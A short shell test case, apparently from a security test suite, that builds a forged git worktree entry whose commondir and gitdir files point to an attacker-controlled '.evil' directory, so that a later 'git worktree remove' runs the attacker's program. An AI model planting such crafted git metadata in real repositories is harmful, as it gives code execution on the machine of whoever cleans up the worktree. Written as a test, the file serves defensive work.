# A new entry for a worktree outside the session's folder; removing it runs the attacker's program.
attack() {
    evil_common "$PWD/.evil"
    mkdir -p zz "$COMMON/worktrees/zz"
    e="$COMMON/worktrees/zz"
    cp "$PWD/.evil/HEAD" "$e/HEAD"
    echo "$PWD/.evil" >"$e/commondir"
    echo "$PWD/zz/.git" >"$e/gitdir"
    echo "gitdir: $e" >zz/.git
    git -C zz read-tree HEAD
}
human() {
    git worktree remove zz
}
harmed() {
    executed
}
